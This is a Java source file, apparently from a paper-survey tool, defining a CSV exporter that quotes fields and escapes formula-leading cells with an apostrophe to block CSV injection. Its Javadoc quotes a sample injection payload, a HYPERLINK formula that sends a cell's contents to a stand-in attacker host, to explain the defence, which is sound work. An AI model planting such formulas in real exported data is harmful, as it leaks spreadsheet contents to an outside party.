package org.livesurvey.export;

import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.Stream;

import org.livesurvey.paper.PaperDetails;

/**
 * Writes CSV as RFC 4180 describes it: a header row, CR LF line ends, a field quoted when it holds a comma, quote
 * or line break, quotes doubled. Values are as curated (the venue too, {@code arXiv} included), lists (authors,
 * category paths) joined with {@code "; "}. Encoded as UTF-8 without a byte-order mark, which every CSV reader
 * but old Excel expects.
 *
 * <p>Values that start with {@code = + - @}, a tab or a carriage return get a leading apostrophe: spreadsheets run
 * such cells as formulas, and titles and names come from outside contributors, so a title like
 * {@code =HYPERLINK("https://evil.example/?"&A1)} must stay text (OWASP's advice on CSV injection).
 */
final class CsvWriter {

    private static final String HEADER = "id,title,authors,published,venue,arxiv,doi,url,categories,code";

    private static final String LINE_END = "\r\n";

    String write(List<CitedPaper> papers) {
        StringBuilder out = new StringBuilder(HEADER).append(LINE_END);
        papers.forEach(paper -> out.append(row(paper)).append(LINE_END));
        return out.toString();
    }

    private static String row(CitedPaper paper) {
        PaperDetails details = paper.details();
        return Stream.of(
                        details.id(),
                        details.title(),
                        String.join("; ", details.authors()),
                        details.published(),
                        details.venue(),
                        paper.arxivId(),
                        paper.doi(),
                        paper.url(),
                        details.categories().stream().map(PaperDetails.CategoryRef::path)
                                .collect(Collectors.joining("; ")),
                        details.links() == null ? null : details.links().code())
                .map(CsvWriter::field)
                .collect(Collectors.joining(","));
    }

    private static String field(String value) {
        if (value == null) {
            return "";
        }
        String safe = startsLikeAFormula(value) ? "'" + value : value;
        if (safe.contains(",") || safe.contains("\"") || safe.contains("\n") || safe.contains("\r")) {
            return "\"" + safe.replace("\"", "\"\"") + "\"";
        }
        return safe;
    }

    private static boolean startsLikeAFormula(String value) {
        return !value.isEmpty() && "=+-@\t\r".indexOf(value.charAt(0)) >= 0;
    }
}
